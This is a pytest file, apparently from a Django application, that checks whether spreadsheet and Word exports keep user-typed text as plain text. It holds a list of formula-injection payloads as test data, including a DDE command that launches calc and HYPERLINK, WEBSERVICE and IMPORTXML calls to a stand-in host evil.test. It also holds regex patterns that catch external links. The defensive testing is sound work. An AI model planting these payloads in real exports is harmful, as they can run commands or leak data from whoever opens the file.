"""G11, T11: what begins like a formula leaves as text, whoever typed it; Word files fetch nothing."""

import io
import random
import re
from collections.abc import Iterator
from dataclasses import dataclass, field

import pytest
from django.db import transaction
from docx import Document
from openpyxl import Workbook, load_workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from congress.spreadsheets import XLSX
from tests.attacks.typed import make_room, plant, typed
from tests.congress.made_files import entries_of
from tests.proof import measured, times
from tests.security.policy import Policy
from tests.security.walking import Answer, Stage

pytestmark = pytest.mark.django_db
TURNS = times("EXPORT_TURNS", 1)
MARK = "‡"
FORMULAS = [
    '=HYPERLINK("http://evil.test","x")',
    "=cmd|'/c calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1;1)",
    "\t=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    '=WEBSERVICE("http://evil.test")',
    "{=1+1}",
    "'=1+1",
    "DDEAUTO cmd",
    "=\x07=1+1",
    "<f>1+1</f>",
    "]]><f>1</f>",
    '=IMPORTXML("//evil.test")',
    "%0A=1+1",
]
SHEETS = (
    "proposals:export",
    "proposals:promises_export",
    "proposals:board_export",
    "proposals:ledger",
    "proposals:organ_figures_export",
    "proposals:evaluation_export",
    "proposals:monthly_report_export",
    "proposals:commendation_export",
    "deputies:export",
    "duties:board_export",
    "groups:export",
    "groups:problems",
    "groups:template",
    "stations:register_export",
    "congress:organs_export",
    "congress:export_audit",
    "deputies:problems",
    "congress:organs_problems",
    "deputies:template",
    "congress:organs_template",
    "congress:calendar_template",
    "training:roster_export",
    "training:attendance_export",
    "training:hours_export",
    "training:statistics_export",
    "training:sheet_template",
)
PAPERS = (
    "proposals:sheet",
    "proposals:letter",
    "proposals:feedback_form",
    "proposals:opinion_letter",
    "proposals:release_form",
    "proposals:extension_form",
    "proposals:commendation_decision",
    "proposals:monthly_report_paper",
    "stations:poster",
    "training:certificate_paper",
    "dossiers:dossier_paper",
)
OUTSIDE = re.compile(rb'TargetMode="External"|<w:(?:hyperlink|altChunk|object)|attachedTemplate')
FIELD = re.compile(rb"<w:instrText[^>]*>([^<]*)<|w:instr=\"([^\"]*)\"")


@dataclass
class Found:
    """What was looked over."""

    cells: int = 0
    papers: int = 0
    wrong: list[str] = field(default_factory=list)

    def table(self, name: str, content: bytes, planted: set[str]) -> None:
        for part, xml in entries_of(content).items():
            if part.startswith("xl/worksheets/") and re.search(rb"<f[ >]", xml):
                self.wrong.append(f"{name}: a formula")
            if b"External" in xml or "externalLink" in part:
                self.wrong.append(f"{name}: something outside in {part}")
        for sheet in load_workbook(io.BytesIO(content)).worksheets:
            for cell in (cell for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)):
                if cell.data_type == "f":
                    self.wrong.append(f"{name}: {cell.coordinate} is a formula")
                if MARK in cell.value:
                    self.cells += 1
                    whole = any(text in cell.value.replace("\r", "\n") for text in planted)
                    self.wrong += [] if whole else [f"{name}: {cell.coordinate} says {cell.value!r}"]

    def paper(self, name: str, content: bytes) -> None:
        parts = b"\n".join(entries_of(content).values())
        fields = {b"".join(found).strip() for found in FIELD.findall(parts)}
        if fields - {b"PAGE"} or OUTSIDE.search(parts):
            self.wrong.append(f"{name}: reaches outside")
        self.papers += 1
        document = Document(io.BytesIO(content))
        cells = [cell.text for table in document.tables for row in table.rows for cell in row.cells]
        text = "".join([*(paragraph.text for paragraph in document.paragraphs), *cells])
        self.wrong += [] if MARK in text else [f"{name}: says nothing of what was typed"]


@pytest.fixture(scope="module")
def found(stage) -> Iterator[Found]:
    make_room()
    found = Found()
    yield found
    measured(
        "G11", f"{found.cells} cells and {found.papers} Word files: 0 formulas, 0 links outside, every text whole"
    )


def plant_formulas(chance: random.Random) -> set[str]:
    """One in every column; as a workbook may hold them."""
    planted = set()
    for model, column in typed():
        text = f"{chance.choice(FORMULAS)}{chance.choice('甲乙𠮷“<&>')}{MARK}"
        if plant(model, column, text):
            planted.add(ILLEGAL_CHARACTERS_RE.sub("", text))
    return planted


def answers(stage: Stage, policy: Policy, url: str) -> Iterator[tuple[str, Answer]]:
    """Of every thing, to two who may have it."""
    for thing in stage.of_kind(policy.kinds[url]):
        able = [actor for actor, status in policy.expected(url, thing, "GET").items() if status == 200]
        for actor in able[:: max(len(able) - 1, 1)]:
            yield f"{url} {thing} {actor}", stage.ask(actor, "GET", stage.address(url, thing))


def test_what_people_typed_stays_text(found, stage, policy):
    for turn in range(TURNS):
        with transaction.atomic():
            planted = plant_formulas(random.Random(turn))
            for url in (*SHEETS, *PAPERS):
                for name, answer in answers(stage, policy, url):
                    assert answer.status == 200, name
                    if url in PAPERS:
                        found.paper(name, answer.body)
                    else:
                        assert answer.headers["Content-Type"] == XLSX
                        found.table(name, answer.body, planted)
            transaction.set_rollback(True)
    assert found.wrong == []
    assert found.cells >= 200 * TURNS and found.papers >= 20 * TURNS


def test_a_careless_table_is_caught(found):
    book, output, other = Workbook(), io.BytesIO(), Found()
    book.active["A1"], book.active["A2"] = FORMULAS[0], f"x{MARK}"
    book.save(output)
    other.table("careless", output.getvalue(), {f"y{MARK}"})
    assert len(other.wrong) == 3
